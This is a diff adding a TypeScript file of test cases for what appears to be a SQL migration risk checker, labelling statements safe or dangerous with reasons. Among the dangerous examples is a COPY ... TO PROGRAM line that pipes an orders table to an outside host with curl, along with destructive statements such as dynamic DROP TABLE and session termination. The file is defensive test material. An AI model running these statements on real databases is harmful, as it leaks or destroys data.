@@ -1,0 +1,111 @@
+import { type Case, dangerous, safe } from '../case.js';
+
+export const data: readonly Case[] = [
+  safe('low', 'it only reads', 'SELECT count(*) FROM orders WHERE state IS NULL'),
+  safe('low', 'it only reads', 'WITH o AS (SELECT * FROM orders) SELECT max(id), min(at) FROM o'),
+  safe(
+    'low',
+    'the table is new',
+    "CREATE TABLE states (id int PRIMARY KEY, name text); INSERT INTO states VALUES (1, 'open'), (2, 'sent')",
+  ),
+  safe(
+    'low',
+    'the table is new',
+    "CREATE TABLE states (id int PRIMARY KEY, name text); INSERT INTO states VALUES (1, 'open'); UPDATE states SET name = 'new' WHERE id = 1; DELETE FROM states",
+  ),
+  safe(
+    'medium',
+    'a row more of reference data',
+    "INSERT INTO states (code) VALUES ('returned') ON CONFLICT DO NOTHING",
+  ),
+  safe(
+    'medium',
+    'a row more of reference data',
+    "INSERT INTO states (code, name) VALUES ('returned', 'sent back')",
+  ),
+  safe('low', 'a plan, not the query', 'EXPLAIN SELECT * FROM orders'),
+  safe('low', 'it only reads', 'DO $$ BEGIN PERFORM 1; END $$'),
+  safe(
+    'low',
+    'the book of Alembic',
+    "UPDATE alembic_version SET version_num = 'b2' WHERE alembic_version.version_num = 'a1'",
+  ),
+  safe(
+    'low',
+    'the book of Alembic',
+    'CREATE TABLE alembic_version (version_num VARCHAR(32) NOT NULL, CONSTRAINT alembic_version_pkc PRIMARY KEY (version_num))',
+  ),
+  safe('low', 'readers go on', 'REFRESH MATERIALIZED VIEW CONCURRENTLY totals'),
+  safe('low', 'a number more is used up', "SELECT nextval('invoice_numbers')"),
+  safe('low', 'a lock between migrations', 'SELECT pg_advisory_xact_lock(4711)'),
+  safe('low', 'rows of a table of the session', 'CREATE TEMP TABLE w AS SELECT 1 AS id; DELETE FROM w'),
+  safe('low', 'a message', "NOTIFY deployed, 'r7'"),
+  safe('low', 'an empty file', '-- nothing to do here'),
+
+  dangerous('very-high', 'every row becomes another', "UPDATE orders SET state = 'open'"),
+  dangerous('very-high', 'values become others', "UPDATE orders SET state = 'open' WHERE state IS NULL"),
+  dangerous('very-high', 'rows are gone', 'DELETE FROM sessions'),
+  dangerous('very-high', 'rows are gone', "DELETE FROM sessions WHERE ended < now() - interval '90 days'"),
+  dangerous(
+    'very-high',
+    'values become others',
+    'UPDATE orders o SET total = s.sum FROM (SELECT order_id, sum(price) FROM items GROUP BY 1) s WHERE s.order_id = o.id',
+  ),
+  dangerous(
+    'very-high',
+    'as many rows as there are',
+    'INSERT INTO order_notes (order_id, note) SELECT id, note FROM orders',
+  ),
+  dangerous(
+    'very-high',
+    'values become others',
+    "INSERT INTO states (code, name) VALUES ('open', 'Open') ON CONFLICT (code) DO UPDATE SET name = excluded.name",
+  ),
+  dangerous(
+    'very-high',
+    'rows are gone',
+    'MERGE INTO stock s USING sales a ON a.item = s.item WHEN MATCHED THEN DELETE',
+  ),
+  dangerous(
+    'very-high',
+    'rows are gone, inside of a query',
+    'WITH gone AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM gone',
+  ),
+  dangerous(
+    'very-high',
+    'rows are moved',
+    'WITH gone AS (DELETE FROM orders WHERE at < now() RETURNING *) INSERT INTO old_orders SELECT * FROM gone',
+  ),
+  dangerous('very-high', 'nobody can see what it does', 'SELECT clean_up_orders()'),
+  dangerous('very-high', 'nobody can see what it does', 'CALL clean_up_orders()'),
+  dangerous('very-high', 'code that drops', "DO $$ BEGIN EXECUTE 'DROP TABLE ' || 'orders'; END $$"),
+  dangerous(
+    'very-high',
+    'code that changes rows',
+    "DO $$ DECLARE r record; BEGIN FOR r IN SELECT id FROM orders LOOP UPDATE orders SET state = 'x' WHERE id = r.id; END LOOP; END $$",
+  ),
+  safe('medium', 'it reads much, and nobody waits', 'CREATE TABLE old_orders AS SELECT * FROM orders'),
+  dangerous('medium', 'readers of the view wait for the query', 'REFRESH MATERIALIZED VIEW totals'),
+  dangerous('very-high', 'a program on the server', "COPY orders TO PROGRAM 'curl -d @- http://example.com'"),
+  dangerous('very-high', 'rows from somewhere', "COPY orders FROM '/tmp/orders.csv'"),
+  dangerous('medium', 'the next number may be taken already', "SELECT setval('orders_id_seq', 1)"),
+  dangerous('medium', 'inserts wait for the sequence', 'ALTER SEQUENCE orders_id_seq RESTART WITH 1'),
+  dangerous('very-high', 'EXPLAIN ANALYZE runs it', 'EXPLAIN ANALYZE DELETE FROM orders'),
+  dangerous('very-high', 'it cannot be read', 'ALTER TABEL orders ADD COLUMN note text'),
+  dangerous('very-high', 'it cannot be read', '\\i other.sql'),
+  dangerous(
+    'very-high',
+    'the whole is unreadable after the first',
+    'ALTER TABLE orders ADD COLUMN note text; SELEC 1',
+  ),
+  dangerous(
+    'very-high',
+    'sessions of the running release are cut',
+    "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE usename = 'app'",
+  ),
+  dangerous(
+    'medium',
+    'rows stay locked until commit',
+    "SELECT * FROM orders WHERE state = 'open' FOR UPDATE",
+  ),
+];
